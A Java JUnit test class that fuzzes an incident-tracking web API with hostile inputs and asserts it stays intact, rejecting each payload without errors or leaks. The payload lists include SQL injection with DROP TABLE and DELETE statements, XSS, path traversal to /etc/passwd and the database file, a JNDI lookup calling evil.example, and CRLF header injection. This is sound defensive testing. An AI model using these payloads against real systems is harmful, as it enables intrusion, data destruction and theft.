package io.saola.events.api;

import static io.saola.events.api.WholeSite.INCIDENT;
import static org.assertj.core.api.Assertions.assertThat;

import io.saola.events.Browser;
import io.saola.events.api.ApiDescription.Operation;
import io.saola.events.security.Role;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Everything that a client can put somewhere, in every place where it can. */
class HostileInputTest {

  private static final List<String> TEXTS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE incident; --",
          "x' UNION SELECT password FROM account --",
          "\" OR \"\"=\"",
          "1); DELETE FROM audit; --",
          "%' ESCAPE '!",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "${jndi:ldap://evil.example/x}",
          "#{7*7}${7*7}{{7*7}}",
          "a\r\nSet-Cookie: saola_session=evil",
          "zero\0character",
          "\ufeff\u202e\u2028",
          "\uD83D\uDE97".repeat(40),
          "9".repeat(400),
          "-1",
          "NaN",
          "[]",
          "null");

  @TempDir static Path folder;
  private static WholeSite site;
  private static ApiDescription described;
  private static Browser admin;

  @BeforeAll
  static void start() throws Exception {
    site = new WholeSite(folder);
    described = site.description();
    admin = site.program(Role.ADMIN);
  }

  @AfterAll
  static void stop() throws Exception {
    site.close();
  }

  /** All but signing in, which guessers would slow down, and the feed, whose answer has no end. */
  static Stream<Operation> operations() {
    return described.operations().stream()
        .filter(operation -> !operation.path().startsWith("/api/session"))
        .filter(operation -> !operation.path().equals("/api/events"));
  }

  @ParameterizedTest
  @MethodSource("operations")
  void shouldTakeNoParameterForMoreThanAText(Operation operation) {
    for (JsonObject parameter : described.parameters(operation)) {
      for (String text : TEXTS) {
        String path = described.examplePath(operation);
        if (parameter.getString("in").equals("query")) {
          path += "?" + parameter.getString("name") + "=" + encoded(text);
        } else if (parameter.getString("in").equals("path")) {
          path = path.replace(parameter.getString("example"), encoded(text));
        }
        checked(operation, path, example(operation));
      }
    }
    theSiteIsAsItWas();
  }

  @ParameterizedTest
  @MethodSource("operations")
  void shouldTakeNoFieldForMoreThanAText(Operation operation) {
    JsonObject body = described.exampleBody(operation).orElse(new JsonObject());
    for (String field : fields(operation)) {
      for (String text : TEXTS) {
        checked(operation, described.examplePath(operation), body.copy().put(field, text).encode());
        checked(
            operation,
            described.examplePath(operation),
            body.copy().put(field, new JsonArray().add(text)).encode());
      }
    }
    theSiteIsAsItWas();
  }

  private static List<String> fields(Operation operation) {
    if (described.exampleBody(operation).isEmpty()) {
      return List.of();
    }
    return operation.path().endsWith("review") || operation.path().endsWith("reviews")
        ? List.copyOf(ReviewBody.BULK_FIELDS)
        : List.copyOf(
            ((JsonObject)
                    described.at(
                        operation.pointer()
                            + "/requestBody/content/application~1json/schema/properties"))
                .fieldNames());
  }

  /** Not a fault of the server's, as the description says, and nothing of this machine in it. */
  private static void checked(Operation operation, String path, String body) {
    HttpResponse<byte[]> answer =
        admin.bytes(
            admin
                .request(path)
                .header("Content-Type", "application/json")
                .method(operation.method(), BodyPublishers.ofString(body)));
    String type = answer.headers().firstValue("Content-Type").orElse("");
    assertThat(answer.statusCode()).as(path + " " + body).isLessThan(500);
    if (answer.statusCode() != 404 || type.contains("problem")) {
      assertThat(described.faults(operation, answer.statusCode(), type, answer.body()))
          .as(path + " " + body)
          .isEmpty();
    }
    assertThat(answer.headers().allValues("Set-Cookie")).isEmpty();
    assertThat(new String(answer.body(), StandardCharsets.UTF_8))
        .doesNotContain("root:", "$argon2id$", "SQLITE", "org.sqlite");
  }

  private static void theSiteIsAsItWas() {
    assertThat(admin.json(INCIDENT).getString("camera")).isEqualTo("cam-1");
    assertThat(admin.json("/api/cameras").getJsonArray("items")).hasSize(2);
    assertThat(admin.json("/api/audit?limit=1").getJsonArray("items")).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"' OR '1'='1", "%", "_", "\\", "*", "wrong%way", "x') OR (1=1"})
  void shouldSearchForWhatIsTypedAndNothingElse(String text) {
    assertThat(admin.json("/api/incidents?q=" + encoded(text)).getJsonArray("items")).isEmpty();
    assertThat(admin.json("/api/audit?by=" + encoded(text)).getJsonArray("items")).isEmpty();
    assertThat(admin.json("/api/incidents?q=wrong").getJsonArray("items")).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        "%252e%252e%252fetc%252fpasswd",
        "..%252f..%252fsaola.db",
        "..%5c..%5cdata%5csaola.db",
        "%c0%ae%c0%ae%c0%afetc",
        "....//....//etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "index.html%00.js",
        ".%00/",
      })
  void shouldServeNoFileThatIsNotMeantToBe(String way) throws Exception {
    for (String folder :
        List.of(
            "/",
            "/console/",
            "/lib/",
            "/api/incidents/",
            "/api/cameras/",
            "/api/mutes/",
            "/health/")) {
      try (var client = new RawClient(site.running.sink.address())) {
        client.send(
            "GET "
                + folder
                + way
                + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "
                + site.tokens.get(Role.ADMIN).reveal()
                + "\r\n\r\n");
        assertThat(client.readToEnd())
            .as(folder + way)
            .matches("(?s)HTTP/1.1 (400|404|405) .*")
            .contains("application/problem+json")
            .doesNotContain("root:", "SQLite format");
      }
    }
  }

  static Stream<byte[]> unreadable() {
    Stream<String> texts =
        Stream.of(
            "",
            "[]",
            "[{\"state\": \"confirmed\"}]",
            "null",
            "\"text\"",
            "{\"state\": \"confirmed\", \"state\": \"closed\"}",
            "{\"state\": \"confirmed\", \"note\": {\"a\": 1, \"a\": 2}}",
            "{\"state\": \"confirmed\"} {}",
            "{\"state\": \"confirmed\"} x",
            "{'state': 'confirmed'}",
            "{\"state\": \"confirmed\",}",
            "{\"state\": \"confirmed\" /* a comment */}",
            "{\"version\": NaN, \"state\": \"confirmed\"}",
            "{\"version\": 1" + "0".repeat(5_000) + ", \"state\": \"confirmed\"}",
            "{\"version\": 1e999999999, \"state\": \"confirmed\"}",
            "{\"version\": 00, \"state\": \"confirmed\"}",
            "{\"note\": \"\\ud800\", \"state\": \"confirmed\"}",
            "{\"note\": \"\\u0000\", \"state\": \"confirmed\"}",
            "{\"note\": " + "[".repeat(30_000) + "]".repeat(30_000) + "}",
            "{\"a\":".repeat(9_000) + "1" + "}".repeat(9_000),
            "{\"" + "k".repeat(60_000) + "\": 1}",
            "{\"__proto__\": {}, \"state\": \"confirmed\"}");
    return Stream.concat(
        texts.map(text -> text.getBytes(StandardCharsets.UTF_8)),
        Stream.of(
            "{\"state\": \"confirmed\"}".getBytes(StandardCharsets.UTF_16),
            "{\"state\": \"confirmed\"}".getBytes(StandardCharsets.UTF_16LE),
            "{\"note\": \"ngã\", \"state\": \"confirmed\"}".getBytes(StandardCharsets.ISO_8859_1),
            new byte[] {'{', '"', (byte) 0xc0, (byte) 0x80, '"', ':', '1', '}'}));
  }

  @ParameterizedTest
  @MethodSource("unreadable")
  void shouldRefuseABodyThatCanBeReadInTwoWaysOrInNone(byte[] body) {
    Operation review = described.operation("POST", INCIDENT + "/review");
    int before = admin.json(INCIDENT).getInteger("version");

    HttpResponse<byte[]> answer =
        admin.bytes(
            admin
                .request(INCIDENT + "/review")
                .header("Content-Type", "application/json")
                .POST(BodyPublishers.ofByteArray(body)));

    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(described.faults(review, 400, "application/problem+json", answer.body())).isEmpty();
    assertThat(Buffer.buffer(answer.body()).length()).isLessThan(65_000);
    assertThat(admin.json(INCIDENT).getInteger("version")).isEqualTo(before);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "application/json; charset=utf-16",
        "application/json; charset=iso-8859-1",
        "application/json, text/plain",
        "application/jsonx",
        "text/json",
        "application/xml",
        "",
      })
  void shouldTakeNothingButJsonInUtf8(String type) {
    var request = admin.request("/api/drills").POST(BodyPublishers.ofString("{}"));
    ApiTest.problem(admin.send(request.header("Content-Type", type)), 415);
    ApiTest.problem(
        admin.send(
            admin
                .request("/api/drills")
                .header("Content-Type", "Application/JSON; Charset=\"UTF-8\"")
                .POST(BodyPublishers.ofString("{}"))),
        400);
  }

  private static String example(Operation operation) {
    return described.exampleBody(operation).map(JsonObject::encode).orElse("");
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
